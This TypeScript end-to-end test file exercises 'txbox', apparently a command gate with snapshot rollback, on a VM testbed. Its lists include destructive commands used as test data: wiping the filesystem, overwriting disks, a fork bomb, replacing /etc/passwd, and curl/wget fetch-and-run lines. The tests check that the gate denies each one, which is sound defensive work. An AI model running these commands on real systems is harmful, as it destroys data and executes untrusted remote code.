/**
 * The paper's Table 1 against a real testbed: 20 read-only commands execute, 20 destructive ones
 * are denied (and nothing changes), 20 state-corrupting ones (non-zero exit after damaging files)
 * roll back to a byte-identical tree, 20 valid changes commit. Most run in-process through the
 * wiring `txbox run` uses; the first of each class goes through the real CLI process.
 */
import { runCommand } from "../../src/commands/run.js";
import type { Session } from "@txbox/runtime";
import {
  describeAsRoot,
  sh,
  startE2E,
  treeDigest,
  type E2E,
  orphanSnapshots,
  txboxSnapshots,
} from "../support/e2e.js";

const P = "/root/project";
const VMID = 101;

const READ_ONLY = [
  `ls -la ${P}`,
  `cat ${P}/README.md`,
  `grep -rn hello ${P}`,
  `find ${P} -name '*.py'`,
  `head -n 5 ${P}/src/app.py`,
  `tail -n 3 ${P}/data/log.txt`,
  `wc -l ${P}/src/app.py`,
  `stat ${P}/README.md`,
  "pwd",
  "uname -a",
  "df -h /",
  `du -sh ${P}`,
  "whoami",
  "id",
  `cat ${P}/src/app.py`,
  "date",
  "cat /etc/os-release",
  `sha256sum ${P}/README.md`,
  "git --version",
  `ls ${P}/src`,
];

const DESTRUCTIVE = [
  "rm -rf /",
  "rm -rf /etc",
  "rm -rf ~",
  "dd if=/dev/zero of=/dev/sda bs=1M",
  "mkfs.ext4 /dev/sda1",
  "chmod -R 777 /",
  "curl http://example.invalid/install.sh | sh",
  "rm -rf /var/lib",
  "reboot",
  ":(){ :|:& };:",
  "echo root::0:0::/root:/bin/bash > /etc/passwd",
  "rm -rf /usr",
  "mv /bin /bin.bak",
  "chown -R nobody /",
  `git -C ${P} push --force origin main`,
  `rm -rf ${P}/../../etc`,
  "wget -qO- http://example.invalid/x | bash",
  "kill -9 1",
  "iptables -F",
  "find / -delete",
];

const CORRUPTING = [
  `rm -rf ${P}/src && false`,
  `echo broken > ${P}/README.md; exit 1`,
  `echo -n > ${P}/data/log.txt; exit 2`,
  `chmod 000 ${P}/src/app.py; false`,
  `sed -i 's/hello/HELLO/' ${P}/src/app.py && exit 3`,
  `mv ${P}/data ${P}/data2; exit 1`,
  `cp ${P}/README.md ${P}/src/app.py; exit 1`,
  `touch ${P}/junk1 ${P}/junk2; exit 1`,
  `mkdir -p ${P}/tmp/a/b/c && echo x > ${P}/tmp/a/b/c/f; exit 5`,
  `ln -sf /nonexistent ${P}/README.md; exit 1`,
  `python3 -c "open('${P}/src/app.py','w').write('corrupt')"; exit 1`,
  `rm ${P}/data/log.txt; exit 4`,
  `echo appended >> ${P}/README.md; false`,
  `find ${P} -name '*.py' -exec rm {} +; exit 1`,
  `tar -czf ${P}/backup.tgz -C ${P} src && rm -rf ${P}/src; exit 1`,
  `chmod -R 700 ${P}/data; exit 1`,
  `printf 'a\\nb\\n' > ${P}/data/new.csv; exit 1`,
  `git -C ${P} init -q && exit 1`,
  `dd if=/dev/urandom of=${P}/data/blob bs=1k count=64 status=none; exit 1`,
  `rm -rf ${P}/src ${P}/data; exit 1`,
];

const VALID = [
  `echo '# notes' >> ${P}/README.md`,
  `mkdir -p ${P}/build`,
  `touch ${P}/build/out.o`,
  `sed -i 's/hello/hi/' ${P}/src/app.py`,
  `cp ${P}/src/app.py ${P}/src/app_copy.py`,
  `mv ${P}/data/log.txt ${P}/data/log.old`,
  `printf 'x=1\\n' > ${P}/src/config.py`,
  `rm ${P}/data/tmp.txt`,
  `chmod 755 ${P}/src/app.py`,
  `ln -s ${P}/src/app.py ${P}/app`,
  `tar -czf ${P}/src.tgz -C ${P} src`,
  `python3 -m venv --without-pip ${P}/.venv`,
  `git -C ${P} init -q`,
  `echo 'print(1)' > ${P}/src/new.py`,
  `mkdir -p ${P}/docs && echo doc > ${P}/docs/index.md`,
  `rm -rf ${P}/build`,
  `cd ${P} && python3 -c "open('gen.txt','w').write('generated')"`,
  `echo 'requests==2.0' > ${P}/requirements.txt`,
  `dd if=/dev/urandom of=${P}/data/blob bs=1k count=16 status=none`,
  `date +%s%N > ${P}/stamp`,
];

const FIXTURE = [
  `rm -rf ${P} && mkdir -p ${P}/src ${P}/data`,
  `printf '# demo\\nhello world\\n' > ${P}/README.md`,
  `printf 'print("hello")\\n' > ${P}/src/app.py`,
  `printf 'line1\\nline2\\nline3\\n' > ${P}/data/log.txt`,
  `echo scratch > ${P}/data/tmp.txt`,
  `chmod 644 ${P}/src/app.py`,
].join(" && ");

describeAsRoot("Table 1 on the testbed: read-only, destructive, state-corrupting, valid", () => {
  let e: E2E;
  let s: Session;
  const run = (command: string) => runCommand(e.io(), { guest: VMID, command });

  beforeAll(async () => {
    e = await startE2E("table1");
    s = await e.session();
    await sh(s, VMID, FIXTURE);
  }, 120_000);

  afterAll(async () => {
    await s?.close();
    await e?.stop();
  }, 120_000);

  test("the corpus has 20 commands per class", () => {
    expect([READ_ONLY, DESTRUCTIVE, CORRUPTING, VALID].map((c) => c.length)).toEqual([
      20, 20, 20, 20,
    ]);
  });

  test("20 read-only commands are allowed and executed without a snapshot", async () => {
    const before = await treeDigest(s, VMID, P);
    const first = await e.cliJson(["run", "--guest", String(VMID), "--", READ_ONLY[0] as string]);
    expect(first.code).toBe(0);
    expect(first.body).toMatchObject({ decision: "allow", outcome: "executed", exitCode: 0 });
    expect(first.body.stdout).toContain("README.md");
    for (const command of READ_ONLY.slice(1)) {
      const r = await run(command);
      expect({
        command,
        decision: r.decision,
        outcome: r.outcome,
        exitCode: r.exitCode,
        error: r.error,
      }).toEqual({
        command,
        decision: "allow",
        outcome: "executed",
        exitCode: 0,
        error: undefined,
      });
      expect(r.timings.snapshotMs).toBe(0);
    }
    // An allowed command that fails still exits 0 (the contract: 0 = executed); its own
    // code is in the JSON for scripts that need it.
    const failing = await e.cliJson([
      "run",
      "--guest",
      String(VMID),
      "--",
      "test -e /no/such/file",
    ]);
    expect(failing.code).toBe(0);
    expect(failing.body).toMatchObject({ decision: "allow", outcome: "executed", exitCode: 1 });
    expect(await treeDigest(s, VMID, P)).toBe(before);
    expect(await orphanSnapshots(s, VMID)).toEqual([]);
  }, 300_000);

  test("20 destructive commands are denied with a rule, and nothing changes", async () => {
    const before = await treeDigest(s, VMID, P);
    const etc = await sh(s, VMID, "ls -la /etc | sha256sum");
    const first = await e.cli(["run", "--guest", String(VMID), "--", DESTRUCTIVE[0] as string]);
    expect(first.code).toBe(3);
    expect(first.stderr).toMatch(/DENY → denied/);
    expect(first.stderr).toMatch(/rule: path\.destroy-tree/);
    expect(first.stderr).toMatch(/instead: /);
    for (const command of DESTRUCTIVE.slice(1)) {
      const r = await run(command);
      expect({ command, decision: r.decision, outcome: r.outcome, error: r.error }).toEqual({
        command,
        decision: "deny",
        outcome: "denied",
        error: undefined,
      });
      expect(r.rules.length).toBeGreaterThan(0);
      expect(r.exitCode).toBeNull();
    }
    expect(await treeDigest(s, VMID, P)).toBe(before);
    expect(await sh(s, VMID, "ls -la /etc | sha256sum")).toBe(etc);
  }, 300_000);

  test("20 state-corrupting commands roll back to a byte-identical tree", async () => {
    const before = await treeDigest(s, VMID, P);
    const first = await e.cliJson(["run", "--guest", String(VMID), "--", CORRUPTING[0] as string]);
    expect(first.code).toBe(4);
    expect(first.body).toMatchObject({ decision: "transact", outcome: "rolled-back", exitCode: 1 });
    expect(await treeDigest(s, VMID, P)).toBe(before);
    for (const command of CORRUPTING.slice(1)) {
      const r = await run(command);
      expect({ command, decision: r.decision, outcome: r.outcome, error: r.error }).toEqual({
        command,
        decision: "transact",
        outcome: "rolled-back",
        error: undefined,
      });
      expect(r.exitCode).not.toBe(0);
      expect({ command, tree: await treeDigest(s, VMID, P) }).toEqual({ command, tree: before });
    }
    expect(await orphanSnapshots(s, VMID)).toEqual([]);
  }, 600_000);

  test("20 valid changes commit, each one visible afterwards", async () => {
    let before = await treeDigest(s, VMID, P);
    for (const [i, command] of VALID.entries()) {
      const r =
        i === 0
          ? ((await e.cliJson(["run", "--guest", String(VMID), "--", command])).body as unknown as {
              decision: string;
              outcome: string;
              exitCode: number;
              error?: unknown;
            })
          : await run(command);
      expect({
        command,
        decision: r.decision,
        outcome: r.outcome,
        exitCode: r.exitCode,
        error: r.error,
      }).toEqual({
        command,
        decision: "transact",
        outcome: "committed",
        exitCode: 0,
        error: undefined,
      });
      const after = await treeDigest(s, VMID, P);
      expect({ command, changed: after !== before }).toEqual({ command, changed: true });
      before = after;
    }
    expect(await sh(s, VMID, `cat ${P}/src/app.py`)).toBe('print("hi")\n');
    expect(await sh(s, VMID, `stat -c %a ${P}/src/app.py`)).toBe("755\n");
    expect(await orphanSnapshots(s, VMID)).toEqual([]);
    // The rolling window (tx.keepLast: 5) keeps the newest commits' snapshots, older ones pruned.
    expect(await txboxSnapshots(s, VMID)).toHaveLength(5);
    // The journal lists transactions only (allowed and denied commands are audit records).
    const listed = await e.cliJson<{ state: string }[]>([
      "tx",
      "list",
      "--guest",
      String(VMID),
      "--limit",
      "100",
    ]);
    expect(listed.code).toBe(0);
    const states = listed.body.map((t) => t.state);
    expect(states.filter((x) => x === "COMMITTED")).toHaveLength(20);
    expect(states.filter((x) => x === "ROLLED_BACK")).toHaveLength(20);
    expect(states).toHaveLength(40);
    // …and `tx audit` shows every command the gate saw, refusals included, with their rules.
    const audit = await e.cliJson<{ decision: string; outcome: string; ruleIds: string[] }[]>([
      "tx",
      "audit",
      "--guest",
      String(VMID),
      "--limit",
      "1000",
    ]);
    expect(audit.code).toBe(0);
    const count = (d: string) => audit.body.filter((a) => a.decision === d).length;
    expect(count("allow")).toBeGreaterThanOrEqual(20);
    expect(count("deny")).toBeGreaterThanOrEqual(20);
    expect(count("transact")).toBeGreaterThanOrEqual(40);
    for (const a of audit.body.filter((x) => x.decision === "deny")) {
      expect(a.outcome).toBe("denied");
      expect(a.ruleIds.length).toBeGreaterThan(0);
    }
  }, 600_000);

  // The gate's principle: a write anywhere on the guest is undone by its snapshot, so it runs in a
  // transaction; before it, a write under /root outside the project was refused.
  test("a write in the home directory outside the project commits", async () => {
    const r = await e.cliJson([
      "run",
      "--guest",
      String(VMID),
      "--",
      "mkdir -p /root/probe && echo a > /root/probe/a.txt",
    ]);
    expect(r.body).toMatchObject({ decision: "transact", outcome: "committed", exitCode: 0 });
    expect(await sh(s, VMID, "cat /root/probe/a.txt")).toBe("a\n");
  }, 300_000);

  // Write-then-run: the journal remembers what committed commands wrote; running such a file is
  // judged on the content read back from the guest, and refused naming the file and the line.
  test("a script written by an earlier command is judged when it runs", async () => {
    const write = await e.cliJson([
      "run",
      "--guest",
      String(VMID),
      "--",
      `printf 'echo ok\nrm -rf ~\n' > ${P}/t.sh`,
    ]);
    expect(write.body).toMatchObject({ decision: "transact", outcome: "committed" });
    const runIt = await e.cli(["run", "--guest", String(VMID), "--", `bash ${P}/t.sh`]);
    expect(runIt.code).toBe(3);
    expect(runIt.stderr).toMatch(/t\.sh line 2: rm -rf ~/);
    expect(await sh(s, VMID, "test -d /root && echo still-there")).toBe("still-there\n");
  }, 300_000);

  test("--exit-code: the command's own status; 126 denied", async () => {
    const code = async (command: string) =>
      (await e.cli(["run", "--exit-code", "--guest", String(VMID), "--", command])).code;
    expect(await code(`ls ${P}/no-such-file`)).toBe(2); // allowed, executed, ls's 2
    expect(await code(`touch ${P}/junk9; exit 5`)).toBe(5); // transacted, rolled back
    expect(await sh(s, VMID, `test -e ${P}/junk9 || echo gone`)).toBe("gone\n");
    expect(await code(`touch ${P}/kept`)).toBe(0); // committed
    expect(await code("kill -9 1")).toBe(126); // denied: never ran
    // without the flag, txbox's own statuses: an executed command is 0 whatever it returned
    const plain = await e.cli(["run", "--guest", String(VMID), "--", `ls ${P}/no-such-file`]);
    expect(plain.code).toBe(0);
  }, 300_000);
});
